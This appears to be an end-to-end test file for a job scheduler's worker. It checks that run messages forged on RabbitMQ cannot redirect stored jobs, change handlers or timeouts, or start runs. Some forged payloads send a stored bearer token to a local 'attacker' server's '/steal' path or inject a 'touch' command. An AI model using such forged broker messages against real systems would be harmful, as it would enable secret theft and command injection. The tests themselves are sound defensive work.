"""The database is the authority, the broker a doorbell: forged and damaged run messages,
published by anyone with write access to RabbitMQ, change nothing but a log line.

A real `sundial worker` consumes each test's queue; the forgeries are published straight
to the exchange as an attacker would, beside (or instead of) the outbox's own messages.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import aio_pika

from sundial.core.broker import declare_topology, queue_name
from sundial.core.secrets import encrypt_fields
from tests.conftest import wait_for
from tests.e2e.test_worker import (
    add_job,
    dead_letters,
    events,
    publish,
    run_row,
    wait_final,
    worker_env,
)
from tests.e2e.test_worker_handlers import recording_server  # noqa: F401 (a fixture)


def body(run_id: int, **fields: Any) -> bytes:
    message = {"version": 1, "run_id": run_id, "job_id": 1, "job": "forged", "handler": "noop",
               "payload": {}, "schedule_id": None, "scheduled_for": "2026-01-01T00:00:00Z",
               "attempt": 1, "timeout_seconds": 5}
    return json.dumps({**message, **fields}).encode()


async def forge(amqp_url: str, queue: str, *messages: tuple[str, bytes, dict | None]) -> None:
    """Publish (message_id, body, headers) to the queue, as any broker user can."""
    async with await aio_pika.connect(amqp_url) as conn:
        channel = await conn.channel()
        exchange = await declare_topology(channel, [queue], delivery_limit=5)
        for message_id, data, headers in messages:
            await exchange.publish(aio_pika.Message(data, message_id=message_id,
                                                    headers=headers or {}), routing_key=queue)


async def queued_run(pool, job: int) -> int:
    return await pool.fetchval("INSERT INTO runs (job_id, scheduled_for, trigger) "
                               "VALUES ($1, now(), 'manual') RETURNING id", job)


async def test_a_forged_handler_payload_and_timeout_run_the_stored_job_instead(
        pool, db_url, amqp_url, queue, processes, recording_server, tmp_path: Path):  # noqa: F811
    from cryptography.fernet import Fernet

    key = Fernet.generate_key().decode()
    target, attacker = recording_server(), recording_server()
    processes(["worker"], worker_env(db_url, amqp_url, queue, ENCRYPTION_KEY=key,
                                     WORKER_HTTP_ALLOWED_NETWORKS="127.0.0.0/8",
                                     WORKER_ALLOW_COMMANDS="true",
                                     WORKER_COMMAND_ALLOWLIST="touch"))
    http_job = await add_job(pool, queue, "http", {"url": f"{target.url}/stored"},
                             secret_payload=encrypt_fields(
                                 key, {"headers": {"Authorization": "Bearer s3cret"}}))
    noop_job = await add_job(pool, queue, "noop")
    sleep_job = await add_job(pool, queue, "sleep", {"seconds": 0.5})
    http_run, noop_run, sleep_run = [await queued_run(pool, j)
                                     for j in (http_job, noop_job, sleep_job)]
    planted = tmp_path / "planted"
    await forge(amqp_url, queue,
                (str(http_run), body(http_run, handler="http",
                                     payload={"url": f"{attacker.url}/steal"}), None),
                (str(noop_run), body(noop_run, handler="command",
                                     payload={"argv": ["touch", str(planted)]}), None),
                (str(sleep_run), body(sleep_run, handler="sleep", payload={"seconds": 0.5},
                                      timeout_seconds=0.01), None))

    row = await wait_final(pool, http_run)
    assert row["status"] == "succeeded", row["error"]
    assert [path for path, _ in target.seen] == ["/stored"]
    assert target.seen[0][1]["authorization"] == "Bearer s3cret"
    assert attacker.seen == [], "the secret went where the message said"
    row = await wait_final(pool, noop_run)
    assert row["status"] == "succeeded" and row["result"] == {"ok": True}
    assert not planted.exists(), "the message's command ran"
    row = await wait_final(pool, sleep_run)
    assert row["status"] == "succeeded", "the message's timeout was applied"


async def test_a_forged_delivery_count_ends_nothing(pool, db_url, amqp_url, queue, processes):
    job = await add_job(pool, queue, "noop")
    run_id = await queued_run(pool, job)
    processes(["worker"], worker_env(db_url, amqp_url, queue))
    await forge(amqp_url, queue, (str(run_id), body(run_id, job_id=job),
                                  {"x-delivery-count": 99}))
    row = await wait_final(pool, run_id)
    assert row["status"] == "succeeded" and row["error"] is None


async def test_an_absurd_run_id_sinks_only_its_own_message(pool, db_url, amqp_url, queue,
                                                           processes):
    job = await add_job(pool, queue, "noop")
    healthy = [await queued_run(pool, job) for _ in range(5)]
    bad = [(f"huge-{queue}", body(2**70), None), (f"negative-{queue}", body(-1), None),
           (f"text-{queue}", body("12"), None), (f"attempt-{queue}", body(healthy[0], attempt=2**40),
                                                  None)]
    # The bad ones and the healthy ones arrive together, so the worker claims them together.
    async with await aio_pika.connect(amqp_url) as conn:
        channel = await conn.channel()
        exchange = await declare_topology(channel, [queue], delivery_limit=5)
        for i, (message_id, data, _) in enumerate(bad):
            await exchange.publish(aio_pika.Message(data, message_id=message_id), routing_key=queue)
            await exchange.publish(aio_pika.Message(body(healthy[i], job_id=job),
                                                    message_id=str(healthy[i])), routing_key=queue)
    worker = processes(["worker"], worker_env(db_url, amqp_url, queue))
    await publish(pool, amqp_url, healthy[len(bad):])
    for run_id in healthy:
        row = await wait_final(pool, run_id)
        assert row["status"] == "succeeded" and row["attempt"] == 1
    await dead_letters(amqp_url, {message_id for message_id, _, _ in bad})
    rejected = {e["message_id"] for e in events(worker, "message.rejected")}
    assert rejected == {message_id for message_id, _, _ in bad}


async def test_a_message_for_another_attempt_or_no_run_changes_nothing(
        pool, db_url, amqp_url, queue, processes):
    job = await add_job(pool, queue, "noop")
    run_id = await queued_run(pool, job)
    worker = processes(["worker"], worker_env(db_url, amqp_url, queue))
    await forge(amqp_url, queue, (f"later-{queue}", body(run_id, attempt=3), None),
                (f"nothing-{queue}", body(run_id + 1000), None))
    await wait_for(lambda: events(worker, "run.duplicate") and events(worker, "message.rejected"),
                   20, what="the worker to drop both forgeries")
    row = await run_row(pool, run_id)
    assert row["status"] == "queued" and row["attempt"] == 1 and row["started_at"] is None
    await publish(pool, amqp_url, [run_id])
    assert (await wait_final(pool, run_id))["status"] == "succeeded"


async def test_a_message_too_deep_to_parse_whole_still_runs_its_run(pool, db_url, amqp_url,
                                                                    queue, processes):
    job = await add_job(pool, queue, "noop")
    run_id = await queued_run(pool, job)
    deep: Any = {}
    for _ in range(300):
        deep = {"d": deep}
    processes(["worker"], worker_env(db_url, amqp_url, queue))
    await forge(amqp_url, queue, (str(run_id), body(run_id, payload=deep), None))
    row = await wait_final(pool, run_id)
    assert row["status"] == "succeeded" and row["result"] == {"ok": True}


async def test_a_queued_run_whose_message_was_given_back_to_the_limit_still_runs(
        pool, db_url, amqp_url, queue, processes):
    """Deliveries before the claim are not the run's fault: at the last delivery the
    broker allows, a run that never started is claimed and runs like any other."""
    job = await add_job(pool, queue, "noop")
    run_id = await queued_run(pool, job)
    async with await aio_pika.connect(amqp_url) as conn:
        channel = await conn.channel()
        await declare_topology(channel, [queue], delivery_limit=5)
        await publish(pool, amqp_url, [run_id])
        q = await channel.get_queue(queue_name(queue))
        count = 0
        while count < 5:
            message = await q.get(timeout=5)
            count = int((message.headers or {}).get("x-delivery-count") or 0)
            await message.nack(requeue=True)
            count += 1
    processes(["worker"], worker_env(db_url, amqp_url, queue))
    row = await wait_final(pool, run_id)
    assert row["status"] == "succeeded" and row["attempt"] == 1


async def test_a_forged_message_starts_no_run_before_its_time_or_off_its_queue(
        pool, db_url, amqp_url, queue, processes):
    job = await add_job(pool, queue, "noop")
    later = await pool.fetchval(
        "INSERT INTO runs (job_id, scheduled_for, trigger, available_at) "
        "VALUES ($1, now(), 'manual', now() + interval '1 hour') RETURNING id", job)
    elsewhere = await queued_run(pool, job)
    other = f"{queue}-other"
    worker = processes(["worker"], worker_env(db_url, amqp_url, queue))
    bystander = processes(["worker"], worker_env(db_url, amqp_url, other))
    await forge(amqp_url, queue, (f"early-{queue}", body(later), None))
    await forge(amqp_url, other, (f"moved-{queue}", body(elsewhere), None))
    await wait_for(lambda: events(worker, "run.not_here") and events(bystander, "run.not_here"),
                   20, what="both workers to drop the forgeries")
    for run_id in (later, elsewhere):
        row = await run_row(pool, run_id)
        assert row["status"] == "queued" and row["started_at"] is None, run_id
    # Its own message, on its own queue, runs it.
    await publish(pool, amqp_url, [elsewhere])
    assert (await wait_final(pool, elsewhere))["status"] == "succeeded"
